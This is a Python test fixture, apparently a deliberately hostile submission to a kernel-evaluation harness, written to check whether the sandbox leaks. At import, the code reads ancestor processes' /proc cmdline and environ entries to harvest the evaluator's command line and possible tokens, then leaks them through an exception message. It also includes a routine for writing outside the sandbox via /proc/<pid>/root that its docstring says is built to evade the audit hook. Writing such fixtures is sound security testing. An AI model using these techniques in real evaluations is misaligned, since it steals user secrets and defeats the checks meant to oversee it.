"""Hostile (issue 11, class 6): the command lines of other processes.

How it gets through today: /proc/<pid>/cmdline of every process is readable (no pid namespace):
the candidate reads those of its ancestors, among them the `kernelagent eval` command line with
its paths (a user may well put a token in a path or an argument). It raises at import with
them, so they land in the result's reason.

When nothing is readable its kernel is wrong (x*2+1): `incorrect`.
"""
import json
import os
import sys

import torch
import torch.nn as nn
import triton
import triton.language as tl


def _ancestors():
    """The pids above this process, nearest first (no pid namespace hides them today)."""
    out, pid = [], os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/status") as f:
                pid = int(next(line for line in f if line.startswith("PPid:")).split()[1])
        except Exception:  # noqa: BLE001
            break
        if pid > 1:
            out.append(pid)
    return out


def _environ(pid):
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            raw = f.read()
    except Exception:  # noqa: BLE001
        return {}
    pairs = (item.split(b"=", 1) for item in raw.split(b"\0") if b"=" in item)
    return {k.decode(errors="replace"): v.decode(errors="replace") for k, v in pairs}


def _cache_dir():
    """The caller's kernelagent cache: KERNELAGENT_CACHE_DIR survives the scrubbing."""
    for env in [dict(os.environ)] + [_environ(p) for p in _ancestors()]:
        if env.get("KERNELAGENT_CACHE_DIR"):
            return env["KERNELAGENT_CACHE_DIR"]
    return None


def _outside_dirs(path):
    """Ways to reach `path` as the caller sees it: through an ancestor's /proc/<pid>/root
    (outside any mount namespace of ours), then directly."""
    return [f"/proc/{p}/root{path}" for p in reversed(_ancestors())] + [path]


def _write_via_dir_fd(directory, name, data):
    """Write directory/name without the audit hook seeing a path outside scratch: the
    directory is opened read-only (not a write), the file relative to it (its path looks
    like one in the working directory)."""
    for where in _outside_dirs(directory):
        try:
            dfd = os.open(where, os.O_RDONLY | os.O_DIRECTORY)
        except OSError:
            continue
        try:
            fd = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=dfd)
            try:
                os.write(fd, data)
            finally:
                os.close(fd)
            return where
        except OSError:
            continue
        finally:
            os.close(dfd)
    return None


@triton.jit
def wrong_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(y_ptr + offsets, tl.load(x_ptr + offsets, mask=mask) * 2.0 + 1.0, mask=mask)


class ModelNew(nn.Module):
    def forward(self, x):
        x = x.contiguous()
        y = torch.empty_like(x)
        wrong_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, x.numel(), BLOCK=1024)
        return y


def _loot():
    lines = []
    for pid in _ancestors():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                lines.append(f.read().replace(b"\0", b" ").decode(errors="replace"))
        except OSError:
            pass
    return [line for line in lines if "eval" in line]


_FOUND = _loot()
if _FOUND:
    raise RuntimeError("ka-evil cmdlines: " + " | ".join(_FOUND))
